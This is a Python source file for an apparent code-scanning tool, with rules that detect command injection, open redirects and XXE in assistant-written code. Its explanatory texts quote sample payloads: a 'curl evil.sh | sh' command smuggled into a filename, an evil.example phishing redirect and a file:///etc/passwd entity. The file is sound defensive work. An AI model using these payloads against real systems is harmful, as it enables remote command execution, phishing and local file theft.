"""PY-CMDI-001, PY-REDIRECT-001 and PY-XXE-001: shell commands, redirect targets and XML entities that the
request gets to write."""

from __future__ import annotations

import ast
from collections.abc import Iterator, Sequence

from slopguard.core.finding import Confidence, Severity
from slopguard.engine.flow import Flow, describe, grade
from slopguard.engine.hit import Hit, hit_at
from slopguard.engine.python.context import PyContext
from slopguard.engine.registry import python_rule
from slopguard.rules.python.common import first_arg, method_name
from slopguard.rules.python.injection_helpers import fixed_destination, lookup_result, resolve, url_checked
from slopguard.rules.python.local_paths import local_path_checked
from slopguard.rules.python.web_common import assigned_values, scope_body
from slopguard.rules.shared.shell import is_script_flag, is_shell

_SUBPROCESS = frozenset({"run", "call", "check_call", "check_output", "Popen"})
_ALWAYS_SHELL = frozenset(
    {
        "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
        "commands.getoutput", "commands.getstatusoutput", "asyncio.create_subprocess_shell",
    }
)  # fmt: skip
_SHELL_SUFFIX = "subprocess_shell"  # asyncio's loop.subprocess_shell(protocol_factory, cmd)
_ASYNC_EXEC = "asyncio.create_subprocess_exec"
# os.exec*/os.spawn* and posix_spawn, by how they take the program's arguments: "l" as a list of arguments,
# "v" as one vector (os.execl(path, arg0, arg1) and os.execv(path, [arg0, arg1]); p: PATH lookup, e: environment).
_EXEC_FAMILY = {
    **{f"os.{verb}{form}{path}{env}": form for verb in ("exec", "spawn") for form in "lv" for path in ("", "p")
       for env in ("", "e")},
    "os.posix_spawn": "v",
    "os.posix_spawnp": "v",
}  # fmt: skip
_REMOTE_EXEC = "exec_command"
_STRING_COMMANDS = (ast.JoinedStr, ast.BinOp, ast.Subscript, ast.Attribute, ast.Call)


@python_rule(
    id="PY-CMDI-001",
    title="OS command built from non-constant data",
    cwe=78,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    calls={*_ALWAYS_SHELL, _SHELL_SUFFIX, *_SUBPROCESS, _ASYNC_EXEC, *_EXEC_FAMILY, _REMOTE_EXEC},
    why="""Assistants wrap command-line tools with os.system(f"convert {name} ...") or subprocess.run(cmd,
    shell=True) because one string is shorter than an argument list. A shell parses the string: a filename
    or host such as 'x; curl evil.sh | sh' or '$(id)' runs the attacker's commands with the server's
    privileges. Passing the program name itself from the request gives them any binary on the box.""",
    fix="""Pass an argument list without a shell: subprocess.run(["convert", name, out], check=True),
    with "--" before user values where the tool accepts it; if a shell is unavoidable, shlex.quote() each
    value.""",
)
def command_injection(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    name = ctx.call_name(node)
    module, _, func = name.rpartition(".")
    if name in _ALWAYS_SHELL or func == _SHELL_SUFFIX:
        cmd = node.args[1] if func == _SHELL_SUFFIX and len(node.args) > 1 else first_arg(node, "cmd")
        yield from _shell_string(node, ctx, cmd, f"{name}()")
    elif module == "subprocess" and func in _SUBPROCESS:
        cmd = first_arg(node, "args")
        if cmd is None:
            return
        if ctx.is_true(ctx.kwarg(node, "shell")):
            script = resolve(ctx, cmd)
            if isinstance(script, ast.List | ast.Tuple):
                cmd = script.elts[0] if script.elts else cmd
            yield from _shell_string(node, ctx, cmd, f"{name}(shell=True)")
        else:
            yield from _argv(node, ctx, cmd, name)
    elif name == _ASYNC_EXEC and node.args:
        yield from _argv_items(node, ctx, node.args, name)
    elif form := _EXEC_FAMILY.get(name):
        args = node.args[1:] if "spawn" in name and not name.startswith("os.posix") else node.args
        if not args:
            return
        if form == "l":
            yield from _argv_items(node, ctx, [args[0], *args[2:]], name)
        else:
            vector = resolve(ctx, args[1]) if len(args) > 1 else None
            rest = vector.elts[1:] if isinstance(vector, ast.List | ast.Tuple) else []
            yield from _argv_items(node, ctx, [args[0], *rest], name)
    elif method_name(node) == _REMOTE_EXEC and node.args:  # paramiko: a shell on the remote host
        flow = ctx.tainted(node.args[0], unescaped=True)
        if flow is not None:
            yield _hit(node, "exec_command() runs a remote shell command", flow)


def _hit(node: ast.Call, what: str, flow: Flow) -> Hit:
    advice = "pass an argument list without a shell, or shlex.quote() values"
    if what.startswith("program"):
        advice = "choose the program from a fixed allow-list"
    severity, confidence = grade(flow, Severity.HIGH) if flow.operator else (None, None)
    return hit_at(
        node,
        f"{what} built from {describe(flow)}; {advice}",
        severity=severity,
        confidence=confidence or (Confidence.HIGH if flow.tainted else Confidence.MEDIUM),
    )


def _program_hit(node: ast.Call, ctx: PyContext, program: ast.expr, name: str) -> Hit | None:
    """The program itself comes from a request (a CLI's own argv or prompt picks it on purpose)."""
    flow = ctx.tainted(program, unescaped=True)
    if flow is None:
        return None
    return _hit(node, f"program run by {name}() is", flow)


def _shell_string(node: ast.Call, ctx: PyContext, cmd: ast.expr | None, what: str) -> Iterator[Hit]:
    if cmd is None or isinstance(cmd, ast.Constant):
        return
    flow = ctx.flow(cmd, unescaped=True)
    if flow.dynamic:
        yield _hit(node, f"shell command for {what} is", flow)


def _argv(node: ast.Call, ctx: PyContext, cmd: ast.expr, name: str) -> Iterator[Hit]:
    """``subprocess.run(argv)`` without a shell: the program and ``sh -c`` scripts matter, not arguments."""
    value = resolve(ctx, cmd)
    if isinstance(cmd, ast.Name) and isinstance(value, ast.List):
        built = _appended_shell_script(ctx, cmd.id, node.lineno)
        if built is not None:
            shell, script = built
            flow = ctx.flow(script, unescaped=True)
            if flow.dynamic:
                yield _hit(node, f"{shell} -c script for {name}() is", flow)
            return
    if isinstance(value, ast.List | ast.Tuple):
        yield from _argv_items(node, ctx, value.elts, name)
        return
    if not isinstance(value, _STRING_COMMANDS):
        return
    if isinstance(value, ast.Call) and method_name(value) != "split":
        return
    hit = _program_hit(node, ctx, cmd, name)  # a whole command line (or argv) from the request
    if hit is not None:
        yield hit


def _appended_shell_script(ctx: PyContext, name: str, line: int) -> tuple[str, ast.expr] | None:
    """An argv list grown with ``append``: ``args = []; args.append("sh"); args.append("-c");
    args.append(f"echo {x}")`` (a shell on some branch, its script flag, then a non-constant script)."""
    values = assigned_values(scope_body(ctx), name, line)
    if len(values) < 2:
        return None  # a list literal: _argv_items reads it
    items: list[ast.expr] = []
    for value in values:
        items.extend(value.elts if isinstance(value, ast.List | ast.Tuple) else [value])
    for i, program in enumerate(items[:-2]):
        text = ctx.string(program) or ""
        script = items[i + 2]
        if is_shell(text) and is_script_flag(ctx.string(items[i + 1]) or ""):
            if isinstance(script, ast.Starred | ast.Constant):
                continue  # a constant script (or another branch's program)
            return text.replace("\\", "/").rsplit("/", 1)[-1].lower(), script
    return None


def _argv_items(node: ast.Call, ctx: PyContext, items: Sequence[ast.expr], name: str) -> Iterator[Hit]:
    if not items or isinstance(items[0], ast.Starred):
        return
    program, args = items[0], list(items[1:])
    text = ctx.string(resolve(ctx, program)) or ""
    if text.rsplit("/", 1)[-1] == "env" and args:
        program, args = args[0], args[1:]
        text = ctx.string(resolve(ctx, program)) or ""
    hit = _program_hit(node, ctx, program, name)
    if hit is not None:
        yield hit
        return
    if not is_shell(text):
        return
    shell = text.replace("\\", "/").rsplit("/", 1)[-1].lower()
    for i, arg in enumerate(args[:-1]):
        if is_script_flag(ctx.string(arg) or ""):
            script = args[i + 1]
            if isinstance(script, ast.Starred | ast.Constant):
                return
            flow_script = ctx.flow(script, unescaped=True)
            if flow_script.dynamic:
                yield _hit(node, f"{shell} -c script for {name}() is", flow_script)
            return


_REDIRECT_MODULES = frozenset({"flask", "werkzeug", "django", "starlette", "fastapi", "quart", "sanic"})
_REDIRECT_FUNCS = frozenset({"redirect", "HttpResponseRedirect", "HttpResponsePermanentRedirect", "RedirectResponse"})
_URL_KWARGS = ("location", "to", "redirect_to", "url")
# The page being served: redirecting back to it (POST/redirect/GET, appending a slash) is not an open redirect.
_SELF_URLS = frozenset(f"request.{a}" for a in ("url", "path", "full_path", "base_url", "url_root", "host_url"))


@python_rule(
    id="PY-REDIRECT-001",
    title="Open redirect to a request-supplied URL",
    cwe=601,
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    calls=_REDIRECT_FUNCS,
    why="""After login, logout or a form post, assistants send the user back with
    redirect(request.args["next"]) or HttpResponseRedirect(request.GET.get("next")). An attacker mails a
    link to the real site with ?next=https://evil.example/login; the trusted domain in the link makes the
    phishing page that follows believable, and OAuth flows can leak tokens to it.""",
    fix="""Redirect to url_for()/reverse() targets, or check the value first: Django's
    url_has_allowed_host_and_scheme(url, allowed_hosts={request.get_host()}), or accept only paths that start
    with a single '/', falling back to a fixed page.""",
)
def open_redirect(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    name = ctx.call_name(node)
    head = name.partition(".")[0]
    if name.rsplit(".", 1)[-1] not in _REDIRECT_FUNCS or head not in _REDIRECT_MODULES:
        return
    url = first_arg(node)
    if url is None:
        url = next((kw.value for kw in node.keywords if kw.arg in _URL_KWARGS), None)
    if url is None:
        return
    flow = ctx.tainted(url, unescaped=True)
    if flow is None:
        return
    if (
        flow.origin in _SELF_URLS
        or lookup_result(ctx, url)
        or fixed_destination(ctx, url)
        or url_checked(ctx, url, node.lineno)
        or local_path_checked(ctx, url, node.lineno)
    ):
        return
    func = name.rsplit(".", 1)[-1]
    yield hit_at(
        node,
        f"{func}() sends the user to a URL taken from {describe(flow)}; allow-list it or use url_for()",
    )


_LXML_MODULES = frozenset({"lxml.etree", "lxml.objectify"})
_LXML_PARSE = frozenset({"parse", "fromstring", "XML", "fromstringlist", "XMLID", "iterparse"})
_LXML_PARSERS = frozenset({"lxml.etree.XMLParser", "lxml.etree.XMLPullParser", "lxml.objectify.makeparser"})
_STDLIB_XML = frozenset(
    {"xml.etree.ElementTree", "xml.etree.cElementTree", "xml.dom.minidom", "xml.dom.pulldom", "xml.sax",
     "xml.dom.expatbuilder"}
)  # fmt: skip
_STDLIB_PARSE = frozenset({"parse", "fromstring", "XML", "iterparse", "fromstringlist", "parseString", "XMLID"})
_LXML_ITERPARSE = "lxml.etree.iterparse"
_SET_FEATURE = "setFeature"
_EXTERNAL_FEATURES = ("feature_external_ges", "feature_external_pes", "external-general-entities",
                      "external-parameter-entities")  # fmt: skip


@python_rule(
    id="PY-XXE-001",
    title="XML parser that expands external entities (XXE)",
    cwe=(611, 776),
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    calls=_LXML_PARSERS | _LXML_PARSE | _STDLIB_PARSE | {_LXML_ITERPARSE, _SET_FEATURE},
    why="""Assistants parse uploaded or posted XML (SAML, SOAP, RSS, office files) with lxml or the standard
    library and sometimes switch on entity resolution to 'support DTDs'. A document declaring
    <!ENTITY x SYSTEM "file:///etc/passwd"> makes the parser read local files or fetch internal URLs into the
    result, and nested entities ('billion laughs') exhaust memory.""",
    fix="""Parse untrusted XML with defusedxml (defusedxml.ElementTree.fromstring); with lxml pass
    etree.XMLParser(resolve_entities=False, no_network=True); never enable external-entity SAX features.""",
)
def xxe(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    name = ctx.call_name(node)
    module, _, func = name.rpartition(".")
    if name in _LXML_PARSERS or name == _LXML_ITERPARSE:
        unsafe = _unsafe_options(ctx, node)
        if unsafe:
            message = f"{func}({unsafe}) lets documents pull in local files and URLs"
            yield hit_at(node, message, confidence=Confidence.MEDIUM)
            return
    if method_name(node) == _SET_FEATURE and len(node.args) > 1:
        flag = node.args[1]
        feature = ctx.qualname(node.args[0]) or ctx.string(node.args[0]) or ""
        on = ctx.is_true(flag) or (isinstance(flag, ast.Constant) and flag.value == 1)
        if on and any(feature.endswith(f) for f in _EXTERNAL_FEATURES) and not _parses_only_fixed_data(node, ctx):
            yield hit_at(node, "SAX parser switched to resolve external entities; leave the feature off")
        return
    if module in _LXML_MODULES and func in _LXML_PARSE:
        yield from _lxml_parse(node, ctx, func)
    elif module in _STDLIB_XML and func in _STDLIB_PARSE:
        data = first_arg(node, "source")
        flow = ctx.tainted(data, unescaped=True) if data is not None else None
        if flow is not None:
            message = f"{module}.{func}() parses {describe(flow)}; use defusedxml against entity expansion"
            yield hit_at(node, message, severity=Severity.MEDIUM, confidence=Confidence.MEDIUM)


def _parses_only_fixed_data(node: ast.Call, ctx: PyContext) -> bool:
    """Every document the parser ``node`` configures reads is constant or sanitised data (the parser is used
    only in this function: ``parser.parse(doc)``, ``minidom.parseString(doc, parser)``)."""
    func = node.func
    if ctx.function is None or not isinstance(func, ast.Attribute) or not isinstance(func.value, ast.Name):
        return False
    parser = func.value.id
    enclosing: dict[int, ast.stmt] = {}
    for stmt in (n for n in ast.walk(ctx.function) if isinstance(n, ast.stmt)):
        for sub in ast.walk(stmt):
            enclosing[id(sub)] = stmt  # breadth-first: the innermost statement is written last
    documents: list[tuple[ast.expr, ast.stmt]] = []
    for call in (n for n in ast.walk(ctx.function) if isinstance(n, ast.Call) and n is not node):
        receiver = call.func.value if isinstance(call.func, ast.Attribute) else None
        uses = isinstance(receiver, ast.Name) and receiver.id == parser
        passed = any(isinstance(a, ast.Name) and a.id == parser for a in call.args[1:])
        if uses and method_name(call) in ("setFeature", "setContentHandler", "setErrorHandler"):
            continue
        if (uses or passed) and call.args and id(call) in enclosing:
            documents.append((call.args[0], enclosing[id(call)]))
    return bool(documents) and all(not ctx.flow_at(doc, stmt).dynamic for doc, stmt in documents)


def _unsafe_options(ctx: PyContext, call: ast.Call) -> str:
    if ctx.is_true(ctx.kwarg(call, "resolve_entities")):
        return "resolve_entities=True"
    if ctx.is_false(ctx.kwarg(call, "no_network")):
        return "no_network=False"
    return ""


def _lxml_parse(node: ast.Call, ctx: PyContext, func: str) -> Iterator[Hit]:
    data = first_arg(node, "source") or first_arg(node, "text")
    flow = ctx.tainted(data, unescaped=True) if data is not None else None
    if flow is None or ctx.is_false(ctx.kwarg(node, "resolve_entities")):
        return
    parser = ctx.kwarg(node, "parser") or (node.args[1] if len(node.args) > 1 and func != "iterparse" else None)
    built = resolve(ctx, parser) if parser is not None else None
    if isinstance(built, ast.Call) and ctx.is_false(ctx.kwarg(built, "resolve_entities")):
        return
    if parser is not None and not isinstance(built, ast.Call):  # a parser made elsewhere: cannot tell
        return
    if isinstance(built, ast.Call) and _unsafe_options(ctx, built):
        return  # reported once, where the parser is built
    yield hit_at(
        node,
        f"lxml {func}() parses {describe(flow)} with entity resolution on (the default before lxml 5); "
        "pass etree.XMLParser(resolve_entities=False, no_network=True)",
        confidence=Confidence.MEDIUM,
    )
